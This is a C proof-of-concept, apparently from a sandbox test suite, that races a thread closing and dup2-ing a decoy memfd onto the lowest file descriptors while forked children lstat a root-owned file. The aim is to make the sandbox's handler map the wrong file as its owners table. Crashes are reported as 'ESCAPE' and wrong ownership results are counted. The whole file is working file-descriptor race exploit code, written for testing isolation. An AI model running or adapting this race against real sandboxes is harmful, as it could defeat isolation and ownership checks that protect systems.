/* The owners table's fd between the server's reply and the handler's
 * mmap of it: the fd arrives at the lowest free number, in the
 * program's range, where another thread of the program closes and dup2s
 * fds all the while (a memfd of its own, 4096 bytes, at each). Run as a
 * static program (nothing stats root's files before main: the table is
 * not mapped yet), in fork children one after another, each of which
 * lstats argv[4] (a file of root's on a grant: 0:0) as that thread runs.
 * A child killed by a signal (the handler or the stat gate reading a
 * table of the program's that is shorter than the table: SIGBUS) prints
 * ESCAPE; the last line counts those and the children that saw other
 * owners than 0:0 (natively none: lstat uses no fd). argv[5]: children
 * (default 2000). */
#define _GNU_SOURCE
#include "attack.h"
#include <pthread.h>
#include <signal.h>
#include <sys/mman.h>
#include <sys/stat.h>
#include <sys/wait.h>

static volatile int stop;
static int evil;

static void *swapper(void *a) {
    (void)a;
    while (!stop) {
        for (int n = 3; n < 40; n++) if (n != evil) close(n);
        for (int n = 3; n < 40; n++) if (n != evil) dup2(evil, n);
    }
    return 0;
}

int main(int argc, char **argv) {
    ARGS
    if (argc < 5) { fprintf(stderr, "usage: secret ro rw root-file [children]\n"); return 2; }
    setvbuf(stdout, 0, _IOLBF, 0);
    int tries = argc > 5 ? atoi(argv[5]) : 2000, crashes = 0, wrong = 0;
    for (int i = 0; i < tries && crashes < 3; i++) {
        pid_t p = fork();
        if (p == 0) {
            int m = memfd_create("not-the-table", 0);
            if (m < 0 || ftruncate(m, 4096) != 0) _exit(2);
            evil = fcntl(m, F_DUPFD, 200);
            close(m);
            pthread_t th;
            pthread_create(&th, 0, swapper, 0);
            usleep(100);
            struct stat st;
            int r = lstat(argv[4], &st);
            stop = 1;
            pthread_join(th, 0);
            if (r != 0) _exit(4);
            if (st.st_uid != 0 || st.st_gid != 0) _exit(4);
            for (int k = 0; k < 100; k++) lstat(argv[4], &st);
            _exit(0);
        }
        int s;
        waitpid(p, &s, 0);
        if (WIFSIGNALED(s)) crashes++, printf("ESCAPE: child %d killed by signal %d (%s)\n", i, WTERMSIG(s), strsignal(WTERMSIG(s)));
        if (WIFEXITED(s) && WEXITSTATUS(s) == 4) wrong++;
    }
    printf("children done: %d killed, %d saw other owners than 0:0\n", crashes, wrong);
    return 0;
}
